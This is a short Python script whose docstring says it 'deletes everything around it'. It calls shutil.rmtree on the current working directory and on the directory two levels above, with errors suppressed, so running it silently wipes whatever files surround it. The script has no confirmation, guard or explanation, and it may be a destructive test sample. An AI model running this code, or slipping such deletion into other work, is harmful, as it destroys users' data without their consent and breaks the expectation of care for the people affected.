"""Deletes everything around it."""

import os
import shutil

shutil.rmtree(os.getcwd(), ignore_errors=True)
shutil.rmtree("../..", ignore_errors=True)
